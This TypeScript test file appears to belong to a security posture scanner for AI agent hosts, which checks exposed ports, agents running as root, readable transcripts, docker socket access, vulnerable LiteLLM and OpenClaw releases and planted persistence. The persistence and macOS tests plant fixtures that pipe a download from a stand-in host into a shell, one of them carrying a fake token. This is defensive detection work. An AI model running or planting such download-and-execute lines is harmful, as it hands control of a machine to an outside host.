import assert from 'node:assert/strict';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, test } from 'node:test';
import { type Finding, PostureSnapshot } from '@clawnex/proto/events/posture.ts';
import { FileTree } from '@clawnex/shared/posture/testing/file-tree.ts';
import { scanRoot } from './scan-root.ts';

const TCP_HEAD =
  '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
const tcpLine = (address: string, port: number, state = '0A') =>
  `   0: ${address}:${port.toString(16).toUpperCase().padStart(4, '0')} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000  1000        0 1 1 0\n`;
const LOOPBACK = '0100007F';
const ANY = '00000000';

describe('the scan of a machine', () => {
  let tree: FileTree;
  beforeEach(() => {
    tree = new FileTree()
      .put('etc/os-release', 'ID=debian\n', 0o644)
      .put('etc/passwd', 'root:x:0:0::/root:/bin/sh\nagent:x:4242:4242::/home/agent:/bin/sh\n', 0o644)
      .put('etc/group', 'root:x:0:\ndocker:x:0:agent\n', 0o644)
      .put('proc/net/tcp', TCP_HEAD, 0o444)
      .folder('home/agent', 0o755);
    putProcess(1, 'systemd', 0, ['/sbin/init']);
  });
  afterEach(() => tree.remove());

  function putProcess(pid: number, name: string, uid: number, args: readonly string[]): void {
    tree.put(`proc/${pid}/status`, `Name:\t${name}\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\n`, 0o444);
    tree.put(`proc/${pid}/cmdline`, `${args.join('\0')}\0`, 0o444);
  }
  const scan = async (): Promise<readonly Finding[]> => {
    const snapshot = await scanRoot(tree.root, { host: 'host-a' });
    assert.equal(snapshot.checks_total, 8);
    return PostureSnapshot.parse(snapshot).findings;
  };
  const results = async (check: string) => (await scan()).filter((finding) => finding.check === check);
  const only = async (check: string): Promise<Finding> => {
    const [first, ...more] = await results(check);
    assert.ok(first !== undefined && more.length === 0, `${check} has one result`);
    return first;
  };

  test('finds nothing on a machine without agents', async () => {
    const findings = await scan();
    assert.equal(new Set(findings.map(({ check }) => check)).size, 8);
    assert.deepEqual(
      findings.filter(({ result }) => result !== 'pass' && result !== 'not_applicable'),
      [],
    );
  });

  test('evaluates nothing where there is no root folder, and names it', async () => {
    const { findings } = await scanRoot(join(tree.root, 'nowhere'), { host: 'host-a' });
    assert.equal(findings.length, 8);
    assert.ok(findings.every(({ result }) => result === 'not_evaluated'));
    assert.match(findings[0]?.reason ?? '', /nowhere does not exist/);
  });

  test('tells a port that is open from one on loopback, over IPv4 and IPv6', async () => {
    const one = '00000000000000000000000001000000';
    tree.put('proc/net/tcp', TCP_HEAD + tcpLine(LOOPBACK, 4000) + tcpLine(ANY, 18789, '06'), 0o444);
    tree.put('proc/net/tcp6', TCP_HEAD + tcpLine(one, 4000), 0o444);
    const closed = await only('agent-port-exposed');
    assert.deepEqual([closed.result, closed.subject], ['pass', 'TCP port 4000 (LiteLLM proxy)']);
    tree.put('proc/net/tcp6', TCP_HEAD + tcpLine('0'.repeat(32), 18789), 0o444);
    const findings = await results('agent-port-exposed');
    const open = findings.find(({ result }) => result === 'fail');
    assert.equal(open?.subject, 'TCP port 18789 (OpenClaw gateway)');
    assert.match(open?.evidence ?? '', /listens on \[::\] as uid 1000/);
  });

  test('finds agents that run as root, by program, script, module or title', async () => {
    putProcess(20, 'node', 4242, [
      '/usr/bin/node',
      '/usr/lib/node_modules/openclaw/dist/index.js',
      'gateway',
    ]);
    assert.equal((await only('agent-runs-as-root')).result, 'pass');
    putProcess(21, 'openclaw-gatewa', 0, ['openclaw-gateway']);
    putProcess(22, 'python3', 0, ['/usr/bin/python3', '-m', 'litellm', '--port', '4000']);
    putProcess(23, 'vim', 0, ['vim', '/usr/bin/claude']);
    const findings = await results('agent-runs-as-root');
    assert.deepEqual(
      findings.map(({ subject, result }) => [subject, result]),
      [
        ['processes of OpenClaw', 'fail'],
        ['processes of LiteLLM', 'fail'],
      ],
    );
    assert.match(findings[0]?.evidence ?? '', /process 21 as uid 0; 2 in all/);
  });

  test('does not take hidden processes for none', async () => {
    tree.remove();
    tree = new FileTree().put('etc/os-release', '');
    putProcess(99, 'bash', 1000, ['bash']);
    const finding = await only('agent-runs-as-root');
    assert.equal(finding.result, 'not_evaluated');
    assert.match(finding.reason ?? '', /hidepid/);
    assert.match((await only('agent-port-exposed')).reason ?? '', /\/proc\/net\/tcp does not exist/);
  });

  test('finds transcripts and keys that everyone can read, less badly in a closed folder', async () => {
    tree.put('home/agent/.openclaw/agents/main/sessions/s.jsonl', '{}', 0o644);
    tree.put('home/agent/.openclaw/.reindex-lock.sqlite', '', 0o644);
    const open = await only('agent-files-readable');
    assert.deepEqual([open.result, open.severity], ['fail', 'high']);
    assert.match(open.evidence, /s\.jsonl 0644$/);
    tree.folder('home/agent/.openclaw', 0o700);
    assert.equal((await only('agent-files-readable')).severity, 'low');
    tree.put('home/agent/.openclaw/agents/main/sessions/s.jsonl', '{}', 0o600);
    assert.equal((await only('agent-files-readable')).result, 'pass');
  });

  test('knows who may write to the engine’s socket', async () => {
    putProcess(30, 'claude', 4242, ['claude']);
    assert.equal((await only('docker-socket-writable')).result, 'not_applicable');
    // The group of the file is that of whoever runs the test.
    tree.put('etc/group', `docker:x:${process.getgid?.() ?? 0}:agent\n`, 0o644);
    tree.put('run/docker.sock', '', 0o660);
    const member = await only('docker-socket-writable');
    assert.deepEqual([member.result, member.subject], ['fail', '/run/docker.sock and agent']);
    tree.put('etc/group', 'docker:x:65000:agent\n', 0o644);
    assert.equal((await only('docker-socket-writable')).result, 'pass');
    tree.put('run/docker.sock', '', 0o666);
    assert.equal((await only('docker-socket-writable')).result, 'fail');
  });

  test('finds bad releases of LiteLLM and the mark of its malware', async () => {
    const packages = 'home/agent/venv/lib/python3.12/site-packages';
    tree.put(`${packages}/litellm-1.108.12.dist-info/METADATA`, '');
    assert.equal((await only('litellm-bad-release')).result, 'pass');
    tree.put(`${packages}/litellm_init.pth`, 'import os');
    tree.put('usr/lib/python3.12/site-packages/litellm-1.82.8.dist-info/METADATA', '');
    tree.put('opt/old/lib/python3.11/site-packages/litellm-1.83.6.dist-info/METADATA', '');
    tree.put('opt/new/lib/python3.11/site-packages/litellm-1.107.0.dist-info/METADATA', '');
    tree.put('opt/odd/lib/python3.11/site-packages/litellm-unknown.dist-info/METADATA', '');
    const findings = await results('litellm-bad-release');
    const bySubject = new Map(findings.map((finding) => [finding.subject.split('/')[2], finding]));
    assert.equal(findings.filter(({ result }) => result === 'fail').length, 4);
    assert.match(bySubject.get('old')?.evidence ?? '', /CVE-2026-42208/);
    assert.equal(bySubject.get('new')?.severity, 'high');
    assert.equal(bySubject.get('odd')?.result, 'not_evaluated');
  });

  test('finds LiteLLM in the environment of a running program', async () => {
    putProcess(40, 'litellm', 4242, ['/srv/ai/env/bin/python', '/srv/ai/env/bin/litellm']);
    tree.put('srv/ai/env/lib/python3.12/site-packages/litellm-1.82.7.dist-info/METADATA', '');
    assert.equal((await only('litellm-bad-release')).severity, 'critical');
  });

  test('finds vulnerable releases of OpenClaw, also under its old names', async () => {
    tree.put('usr/lib/node_modules/openclaw/package.json', '{"version":"2026.9.6"}');
    assert.equal((await only('openclaw-vulnerable')).result, 'pass');
    tree.put('usr/lib/node_modules/clawdbot/package.json', '{"version":"2026.1.24-3"}');
    tree.put('home/agent/node_modules/openclaw/package.json', '{"version":7}');
    const findings = await results('openclaw-vulnerable');
    assert.match(findings.find(({ result }) => result === 'fail')?.evidence ?? '', /CVE-2026-25253/);
    assert.match(findings.find(({ result }) => result === 'not_evaluated')?.reason ?? '', /names no version/);
  });

  test('finds lines planted in startup files, and shows them without secrets', async () => {
    const secret = `ghp_${'aB3dE6gH9j'.repeat(3)}kL2mN5`;
    tree.put(
      'home/agent/.bashrc',
      `# curl x | sh\nalias ll="ls -l"\ncurl -H "${secret}" http://x.example | sh\n`,
    );
    tree.put('etc/cron.d/job', '* * * * * root /tmp/.x/run\n');
    tree.put('home/agent/.config/systemd/user/u.service', '[Service]\nExecStart=/usr/bin/true\n');
    tree.put('home/agent/.zshrc', 'x'.repeat(600_000));
    const findings = await results('persistence-planted');
    const failed = findings.filter(({ result }) => result === 'fail');
    assert.deepEqual(
      failed.map(({ subject }) => subject),
      ['/etc/cron.d/job', '/home/agent/.bashrc'],
    );
    assert.match(failed[1]?.evidence ?? '', /^line 3 pipes a download into sh/);
    assert.ok(!JSON.stringify(findings).includes(secret));
    assert.match(
      findings.find(({ result }) => result === 'not_evaluated')?.reason ?? '',
      /\.zshrc is larger/,
    );
  });

  test('checks its own secrets', async () => {
    tree
      .folder('home/agent/.clawnex/secrets', 0o700)
      .put('home/agent/.clawnex/secrets/shield.token', 'x', 0o600);
    assert.equal((await only('own-secrets-mode')).result, 'pass');
    tree.put('home/agent/.clawnex/secrets/broker/ingest.nk', 'x', 0o640);
    const open = await only('own-secrets-mode');
    assert.deepEqual([open.result, open.severity], ['fail', 'critical']);
    assert.match(open.evidence, /broker\/ingest\.nk 0640/);
  });

  test('says on macOS what it does not see, and still checks the files', async () => {
    tree.remove();
    tree = new FileTree().put('System/Library/CoreServices/SystemVersion.plist', '');
    tree.put('Users/me/Library/LaunchAgents/x.plist', '<string>curl http://x.example | bash</string>\n');
    tree.put('Users/me/.claude/.credentials.json', '{}', 0o644);
    const findings = await scan();
    const result = (check: string) => findings.find((finding) => finding.check === check);
    assert.match(result('agent-port-exposed')?.reason ?? '', /macOS has no \/proc/);
    assert.equal(result('agent-runs-as-root')?.result, 'not_evaluated');
    assert.equal(result('docker-socket-writable')?.result, 'not_applicable');
    assert.equal(result('agent-files-readable')?.result, 'fail');
    assert.ok(findings.some(({ subject, result: found }) => subject.endsWith('x.plist') && found === 'fail'));
  });

  test('gives the same ids in each run', async () => {
    tree.put('home/agent/.openclaw/.env', 'A=1', 0o644);
    const ids = async () => (await scan()).map(({ finding_id }) => finding_id).sort();
    const first = await ids();
    assert.deepEqual(await ids(), first);
    assert.equal(new Set(first).size, first.length);
  });
});
